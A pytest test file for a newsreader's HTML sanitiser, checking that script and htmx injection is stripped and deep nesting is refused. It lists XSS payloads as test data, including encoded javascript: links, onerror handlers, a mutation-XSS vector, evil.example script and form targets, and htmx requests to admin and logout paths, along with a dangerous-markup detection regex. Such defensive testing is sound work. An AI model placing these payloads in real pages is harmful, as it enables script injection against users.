"""Hostile input: nothing that can run, load active content or reach htmx survives."""

import re
from pathlib import Path

import pytest

from newsreader.lib.extraction import ExtractionError, extract
from newsreader.lib.extraction.canonical import normalise_html
from newsreader.lib.extraction.sanitize import MAX_NESTING_DEPTH, check_nesting_depth, sanitise_html

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "html"


def clean(html):
    return normalise_html(sanitise_html(html))[0]


DANGEROUS = re.compile(
    r"<script|<style|<iframe|<svg|<math|<form|<input|<object|<embed|<template|<noscript"
    r"|<base|<meta|<link|<mark|javascript:|vbscript:|data:|\son\w+=|style=|class=|id="
    r"|hx-|data-",
    re.IGNORECASE,
)


@pytest.mark.parametrize(
    "payload",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<img src="x" onerror="alert(1)">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<img src="javascript:alert(1)">',
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<style>body{display:none}</style>",
        '<p style="position:fixed" class="c" id="i" data-x="1">x</p>',
        '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
        '<p hx-post="/logout/" hx-trigger="revealed">x</p>',
        '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
        '<form action="https://evil.example/"><input name="p"><button>go</button></form>',
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<template><script>alert(1)</script></template>",
        "<noscript><img src=x onerror=alert(1)></noscript>",
        "<mark>a fake highlight</mark>",
        '<a href="https://ok.example/" onclick="alert(1)" target="_top">x</a>',
        "<!--<script>alert(1)</script>-->",
        "<p>x</p><![CDATA[<script>alert(1)</script>]]>",
    ],
)
def test_it_neutralises(payload):
    assert not DANGEROUS.search(clean(payload)), clean(payload)


def test_it_keeps_what_a_reader_needs():
    html = (
        "<h2>Head</h2><p>a <strong>b</strong> <em>c</em> <code>d</code> "
        '<a href="https://example.org/">link</a> <a href="mailto:x@example.org">mail</a></p>'
        "<blockquote><p>quote</p></blockquote><ul><li>one</li></ul><ol start='3'><li>3</li></ol>"
        "<pre><code>x = 1</code></pre><table><tr><th scope='col'>h</th></tr>"
        "<tr><td colspan='2'>c</td></tr></table>"
        '<figure><img src="https://example.org/i.png" alt="alt text"><figcaption>cap</figcaption>'
        "</figure>"
    )
    out = clean(html)
    for kept in (
        "<h2>Head</h2>",
        "<strong>b</strong>",
        "<em>c</em>",
        "<code>d</code>",
        'href="https://example.org/"',
        'href="mailto:x@example.org"',
        "<blockquote><p>quote</p></blockquote>",
        '<ol start="3">',
        "<pre><code>x = 1</code></pre>",
        '<th scope="col">h</th>',
        '<td colspan="2">c</td>',
        '<img src="https://example.org/i.png" alt="alt text">',
        "<figcaption>cap</figcaption>",
    ):
        assert kept in out


def test_links_cannot_reach_the_opener_or_pass_a_referrer():
    assert 'rel="noopener noreferrer nofollow"' in clean('<a href="https://example.org/">x</a>')


def test_a_whole_hostile_page_comes_out_inert():
    result = extract((FIXTURES / "hostile.html").read_bytes(), filename="hostile.html")
    assert not DANGEROUS.search(result.html), result.html
    assert "evil.example" not in result.html
    assert "This paragraph is perfectly ordinary" in result.text
    assert "noscript content" not in result.text
    assert "template content" not in result.text


def test_hostile_markdown_is_sanitised_too():
    markdown = (
        "# Note\n\nSome text. [click](javascript:alert(1)) "
        '<img src=x onerror="alert(1)"> <span hx-get="/x">y</span>\n\n<script>alert(1)</script>\n'
    )
    html = extract(markdown, kind="markdown").html
    assert "<a" not in html  # markdown-it refuses the javascript: link; it stays text
    assert not re.search(r"onerror|hx-|<script|<span", html), html


def nested(depth):
    return "<div>" * depth + "deep text" + "</div>" * depth


def test_ordinary_nesting_passes():
    check_nesting_depth(nested(100))


def test_deep_nesting_is_refused_with_a_clear_message():
    with pytest.raises(ExtractionError, match=f"more than {MAX_NESTING_DEPTH} levels deep"):
        check_nesting_depth(nested(MAX_NESTING_DEPTH + 1))


def test_pathological_nesting_is_refused_quickly_before_the_sanitiser_sees_it():
    # 100,000 levels would take nh3 minutes; the check on the parsed tree stops it.
    with pytest.raises(ExtractionError, match="levels deep"):
        extract(nested(100_000), kind="html")


@pytest.mark.parametrize("depth", [MAX_NESTING_DEPTH - 2, MAX_NESTING_DEPTH - 1])
def test_a_web_page_meets_the_same_limit_as_the_streaming_check(depth):
    # <html> and <body> are two levels of their own.
    page = f"<html><body>{nested(depth)}</body></html>"
    try:
        check_nesting_depth(page)
        streaming = None
    except ExtractionError as error:
        streaming = str(error)
    try:
        extract(page, kind="html")
        tree = None
    except ExtractionError as error:
        tree = str(error)
    assert tree == streaming
    assert (streaming is None) == (depth == MAX_NESTING_DEPTH - 2)


def test_unclosed_paragraphs_on_a_web_page_are_not_mistaken_for_nesting():
    page = "<html><body>" + "<p>para" * 500 + "<ul>" + "<li>item" * 500 + "</ul></body></html>"
    assert extract(page, kind="html").text


def test_unclosed_paragraphs_and_list_items_are_not_mistaken_for_nesting():
    check_nesting_depth("<body>" + "<p>para" * 5000 + "<ul>" + "<li>item" * 5000 + "</ul>")


def test_deeply_nested_markdown_html_is_refused_too():
    with pytest.raises(ExtractionError, match="levels deep"):
        extract(nested(5000), kind="markdown")


def test_cite_urls_are_not_kept():
    html = sanitise_html(
        '<blockquote cite="javascript:alert(1)"><q cite="javascript:x">q</q></blockquote>'
    )
    assert "cite=" not in html
